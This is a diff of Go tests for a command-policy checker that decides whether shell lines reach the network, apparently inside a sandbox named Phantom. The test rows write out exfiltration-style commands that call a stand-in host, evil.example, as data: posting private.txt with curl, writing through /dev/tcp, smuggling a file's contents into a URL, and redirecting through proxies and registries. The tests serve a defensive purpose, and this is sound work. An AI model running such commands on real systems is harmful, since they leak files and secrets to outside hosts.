@@ -2,6 +2,8 @@ package policy
 
 import (
 	"maps"
+	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
@@ -46,6 +48,43 @@ func TestNetwork(t *testing.T) {
 		{"a pull from the remote of the settings", "git pull --ff-only", repo(origin), ReachListed},
 		{"a fetch from a directory below", "cd sub && git fetch origin main", repo(origin), ReachListed},
 
+		{"a push into a directory", "git push ../remote.git main", repo(origin), ReachNone},
+		{"a push to a remote that is a directory", "git push", repo("[remote \"origin\"]\n\turl = ../remote.git\n"), ReachNone},
+		{"a push to a remote that the line sets up", "git init -q w && cd w && git remote add origin ../remote.git && git push -q -u origin main", nil, ReachNone},
+		{"a clone of a directory, and its build", "git clone -q /w/x y && make -C y", nil, ReachNone},
+		{"a request to this machine", "curl -sf http://127.0.0.1:8098/index.html | grep -c x", nil, ReachListed},
+		{"a request to this machine, in a loop", "for i in $(seq 50); do curl -s 'localhost:3000/api/items?page=2' && break; sleep 0.1; done", nil, ReachListed},
+		{"a request to a service that the line starts", "python3 -m http.server 8098 & sleep 1; curl http://127.0.0.1:8098/; kill %1", nil, ReachNone},
+		{"a request to this machine after a fetch", "npm ci && curl http://127.0.0.1:8098/", nil, ReachListed},
+		{"a request to this machine by IPv6", "curl -m 5 -o /dev/null -w '%{http_code}' 'http://[::1]:8080/'", nil, ReachListed},
+
+		{"a push into a directory with others", "git push ../remote.git; git push", repo(origin), ReachOther},
+		{"a push to one of two remotes", "git push origin", repo("[remote \"origin\"]\n\turl = ../remote.git\n\tpushurl = https://evil.example/a\n"), ReachOther},
+		{"a push to a remote that the line sets up elsewhere", "git remote add origin https://evil.example/a; git push origin", repo("[remote \"origin\"]\n\turl = ../remote.git\n"), ReachOther},
+		{"a push to a copy by ssh", "git push evil.example:a", repo(origin), ReachOther},
+		{"a push by a transport that is a program", "git push ext::./x", repo(origin), ReachOther},
+		{"a push whose address only the run knows", "git push $(cat f)", repo(origin), ReachOther},
+		{"a request to this machine beside a fetch and a program", "npm ci; node x.js & curl http://127.0.0.1:8098/", nil, ReachOther},
+		{"a request to Phantom itself", "curl http://127.0.0.1:3100/health", nil, ReachOther},
+		{"a request to Phantom itself, by a port in other words", "curl http://127.0.0.1:03100/health", nil, ReachOther},
+		{"a request whose answer is written", "curl -s http://127.0.0.1:8098/ > out", nil, ReachOther},
+		{"a request that sends", "curl -d @private.txt http://127.0.0.1:8098/", nil, ReachOther},
+		{"a request by another method", "curl -X DELETE http://127.0.0.1:8098/a", nil, ReachOther},
+		{"a request with a header", "curl -H 'Host: evil.example' http://127.0.0.1:8098/", nil, ReachOther},
+		{"a request that may be led away", "curl -L http://127.0.0.1:8098/", nil, ReachOther},
+		{"a request through a proxy", "curl -x http://evil.example http://127.0.0.1:8098/", nil, ReachOther},
+		{"a request that resolves its own way", "curl --resolve localhost:80:198.51.100.1 http://localhost/", nil, ReachOther},
+		{"a request by settings", "curl http://127.0.0.1:8098/", tree{workspace + "/.curlrc": "proxy = evil.example"}, ReachOther},
+		{"a request through a proxy of the environment", "http_proxy=http://evil.example curl http://127.0.0.1:8098/", nil, ReachOther},
+		{"a request for what a service fetches", "curl 'http://127.0.0.1:8098/fetch?url=http://evil.example/DATA'", nil, ReachOther},
+		{"a request in another spelling for the same", "curl 'http://127.0.0.1:8098/fetch?url=http:%2f%2fevil.example'", nil, ReachOther},
+		{"a request to a name that looks local", "curl http://localhost.evil.example/", nil, ReachOther},
+		{"a request whose user looks local", "curl http://127.0.0.1@evil.example/", nil, ReachOther},
+		{"a request to two places", "curl http://127.0.0.1:8098/ http://evil.example/", nil, ReachOther},
+		{"a request to one of several hosts in braces", "curl 'http://{127.0.0.1,evil.example}/'", nil, ReachOther},
+		{"a request by another protocol", "curl gopher://127.0.0.1:25/", nil, ReachOther},
+		{"a request whose answer becomes settings", "curl -o .curlrc http://127.0.0.1:8098/; curl http://127.0.0.1:8098/", nil, ReachOther},
+		{"a request whose address only the run knows", "curl http://127.0.0.1:8098/$(cat private.txt)", nil, ReachOther},
 		{"a request", "curl https://github.com/a", nil, ReachOther},
 		{"a fetch and a program", "npm ci && node x.js", nil, ReachOther},
 		{"a program behind a pipe", "npm view react | ./x", nil, ReachOther},
@@ -59,6 +98,10 @@ func TestNetwork(t *testing.T) {
 		{"another registry by a variable that set -a exports", "set -a; npm_config_registry=https://evil.example; npm ci", nil, ReachOther},
 		{"another registry by env", "env PIP_INDEX_URL=https://evil.example pip install x", nil, ReachOther},
 		{"another registry by the project's settings", "npm ci", tree{workspace + "/.npmrc": "registry=https://evil.example"}, ReachOther},
+		{"another registry by the settings of a project above", "cd sub && npm ci", tree{workspace + "/.npmrc": "unused", filepath.Dir(workspace) + "/.npmrc": "registry=https://evil.example"}, ReachOther},
+		{"another index by the settings of a project above", "cd a/b && pip install x", tree{workspace + "/a/.config/pip/pip.conf": "index-url = https://evil.example"}, ReachOther},
+		{"a crate's source by the settings of a project above", "cd a/b && cargo fetch", tree{workspace + "/a/.cargo/config.toml": "replace-with = \"x\"\nregistry = \"https://evil.example\""}, ReachOther},
+		{"a script of a project above", "cd a/b && npm ci", tree{workspace + "/a/package.json": `{"scripts": {"postinstall": "./x"}}`}, ReachOther},
 		{"settings that cannot be read", "npm ci", tree{workspace + "/.npmrc": "unreadable"}, ReachOther},
 		{"settings written on the way", "echo registry=https://evil.example > .npmrc; npm ci", nil, ReachOther},
 		{"a script that the install runs", "npm ci", tree{workspace + "/package.json": `{"scripts": {"postinstall": "./x"}}`}, ReachOther},
@@ -100,6 +143,8 @@ func TestNetwork(t *testing.T) {
 		{"a hook", "git pull", with(repo(origin), ".git/hooks/post-merge", "#!/bin/sh\n./x"), ReachOther},
 		{"settings that are kept elsewhere", "git fetch", tree{workspace + "/.git": "gitdir: /tmp/x"}, ReachOther},
 		{"no repository", "git fetch", nil, ReachOther},
+		{"submodules, which a pull fetches too", "git pull", with(repo(origin), ".gitmodules", "[submodule \"x\"]\n\turl = https://evil.example/DATA\n"), ReachOther},
+		{"submodules that are left alone", "git pull --no-recurse-submodules", with(repo(origin), ".gitmodules", "[submodule \"x\"]\n\turl = https://evil.example/DATA\n"), ReachListed},
 		{"a connection of the shell's own", "echo x > /dev/tcp/evil.example/80", nil, ReachOther},
 		{"another machine", "ssh host npm ci", nil, ReachOther},
 		{"what cannot be read", "npm ci '", nil, ReachUnknown},
@@ -108,6 +153,7 @@ func TestNetwork(t *testing.T) {
 	for _, r := range rows {
 		t.Run(r.name, func(t *testing.T) {
 			cfg := testConfig()
+			cfg.Ports = []int{3100}
 			if cfg.Files = r.files; r.files == nil {
 				cfg.Files = nowhere{}
 			}
@@ -121,6 +167,97 @@ func TestNetwork(t *testing.T) {
 			}
 			if free := got.Kind == ReachNone || got.Kind == ReachListed; free != (got.Verdict.Decision == phantom.Allow) {
 				t.Errorf("Network(%q) = %v with the verdict %v", r.line, got.Kind, got.Verdict.Decision)
+			}
+		})
+	}
+}
+
+// What a line may run, or be led by, is near it; what only carries is led by its
+// settings, and a request into a filter by nothing of the project.
+func TestNetworkCode(t *testing.T) {
+	const plain = "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = git@github.com:a/b.git\n"
+	repo := tree{workspace + "/p/.git/HEAD": "ref: refs/heads/main", workspace + "/p/.git/config": plain}
+	with := func(path, text string) tree {
+		out := tree{filepath.Join(workspace, "p", path): text}
+		for p, text := range repo {
+			if p != workspace+"/p/"+path {
+				out[p] = text
+			}
+		}
+		return out
+	}
+	rows := []struct {
+		name, line, cwd string
+		files           tree
+		file            string // in the workspace
+		want            bool
+	}{
+		{"a build and a push", "make && git push", "/p/sub", repo, "/p/Makefile", true},
+		{"a build elsewhere", "make -C ../q && git push", "/p", repo, "/q/Makefile", true},
+		{"a build after a change of directory", "cd ../q && make && git push", "/p", repo, "/q/x.mk", true},
+		{"a build in another project", "make && git push", "/p", repo, "/q/Makefile", false},
+		{"an install and its tests", "npm ci && npm test", "/p", repo, "/p/package.json", true},
+		{"a script of the project", "./build.sh && curl -d @x https://a.example", "/p", repo, "/p/build.sh", true},
+		{"a script somewhere else", "../tools/up.sh", "/p", repo, "/tools/lib.sh", true},
+		{"an interpreter", "curl https://a.example | python3 -m json.tool", "/p", repo, "/p/json.py", true},
+		{"a push and a hook", "git push", "/p", repo, "/p/.git/hooks/pre-push", true},
+		{"a push and the settings", "git push", "/p/sub", repo, "/p/.git/config", true},
+		{"a push and the home's settings", "git push", "/p", repo, "/.gitconfig", true},
+		{"a push and what it carries", "git push", "/p", repo, "/p/main.go", false},
+		{"a push with a hook that may run all", "git push", "/p", with(".git/hooks/pre-push", "make"), "/p/Makefile", true},
+		{"a push with settings that name hooks", "git push", "/p", with(".git/config", plain+"[core]\n\thooksPath = .husky\n"), "/p/.husky/pre-push", true},
+		{"a push with settings in the line", "git -c core.hooksPath=x push", "/p", repo, "/p/x/pre-push", true},
+		{"a request into a filter", "curl -s https://a.example | jq .version | tee out", "/p", repo, "/p/Makefile", false},
+		{"a request and its settings", "curl https://a.example", "/p", repo, "/.curlrc", true},
+		{"a copy by ssh and its settings", "scp x host:", "/p", repo, "/.ssh/config", true},
+		{"a copy by ssh and the project", "scp x host:", "/p", repo, "/p/Makefile", false},
+		{"a container that sees nothing of the project", "docker run --rm alpine echo hi", "/p", repo, "/p/Makefile", false},
+		{"a container that sees the project", "docker run --rm -v .:/w -w /w alpine make", "/p", repo, "/p/Makefile", true},
+		{"a look at containers", "docker compose ps", "/p", repo, "/p/compose.yaml", false},
+		{"containers of the project", "docker compose up -d", "/p", repo, "/p/compose.yaml", true},
+		{"a container", "docker build .", "/p", repo, "/p/Dockerfile", true},
+		{"tests that take settings from above the project", "pytest && git push", "/p", with("../pytest.ini", "[pytest]\naddopts = -p x\n"), "/pytest.ini", true},
+		{"tests that take settings from above a directory without a repository", "pytest && git push", "/q/sub", with("../q/conftest.py", "import x\n"), "/q/conftest.py", true},
+		{"a build that takes settings from above the project", "cargo test && git push", "/p", repo, "/.cargo/config.toml", true},
+		{"a program that takes modules from above the project", "node x.js && git push", "/p", repo, "/node_modules/a/index.js", true},
+		{"variables from above the project", "flask run", "/p", with("../.env", "A=1\n"), "/.env", true},
+		{"tests and what lies beside the project", "pytest && git push", "/p", with("../data.json", "{}"), "/data.json", false},
+		{"a build whose programs have settings in the home", "make && git push", "/p", with("../.npmrc", "registry=https://evil.example\n"), "/.npmrc", true},
+		{"a build and git's settings in the home", "make", "/p", repo, "/.config/git/hooks/pre-push", true},
+		{"an index in the settings of a program of another name", "pip3 install x", "/p", repo, "/.config/pip/pip.conf", true},
+		{"a registry in the settings of another program", "npx x", "/p", with("../.npmrc", "registry=https://evil.example\n"), "/.npmrc", true},
+		{"a login that is a program", "kubectl get pods", "/p", repo, "/.kube/config", true},
+		{"a download that starts a program", "aria2c https://a.example/x", "/p", repo, "/.aria2/aria2.conf", true},
+		{"a pull request, which is pushed", "gh pr create --fill", "/p", repo, "/p/.git/hooks/pre-push", true},
+		{"a list of issues", "gh issue list", "/p", repo, "/p/Makefile", false},
+		{"statements from a file", "psql -h db.example -f schema.sql", "/p", with("schema.sql", "select 1"), "/p/schema.sql", true},
+		{"statements from a file, redirected", "mysql -h db.example < schema.sql", "/p", repo, "/p/schema.sql", true},
+		{"statements from a pipe", "cat schema.sql | psql -h db.example", "/p", repo, "/p/schema.sql", true},
+		{"a statement", "psql -h db.example -c 'select 1'", "/p", repo, "/p/schema.sql", false},
+		{"a host by other settings", "ssh -F conf host", "/p", repo, "/p/conf", true},
+		{"a copy by other settings", "scp -Fconf x host:", "/p", repo, "/p/conf", true},
+		{"a batch of orders", "sftp -b todo host", "/p", repo, "/p/todo", true},
+		{"a request by other settings", "curl -K conf", "/p", repo, "/p/conf", true},
+		{"addresses from a file", "wget -i list", "/p", repo, "/p/list", true},
+		{"a script of awk", "awk -f sum.awk data.csv", "/p", repo, "/p/sum.awk", true},
+		{"a script of sed", "sed -nf x.sed data.csv", "/p", repo, "/p/x.sed", true},
+		{"a word of awk", "awk '{print $1}' data.csv", "/p", repo, "/p/sum.awk", false},
+		{"a line that cannot be read", "curl '", "/p", repo, "/q/Makefile", true},
+	}
+	for _, r := range rows {
+		t.Run(r.name, func(t *testing.T) {
+			cfg := testConfig()
+			cfg.Files = r.files
+			p, err := New(cfg)
+			if err != nil {
+				t.Fatal(err)
+			}
+			got := p.Network(r.line, workspace+r.cwd).Code
+			covered := slices.ContainsFunc(got, func(place string) bool {
+				return place == "/" || strings.HasPrefix(workspace+r.file+"/", place+"/")
+			})
+			if covered != r.want {
+				t.Errorf("Network(%q).Code = %q, want %s in it: %v", r.line, got, r.file, r.want)
 			}
 		})
 	}
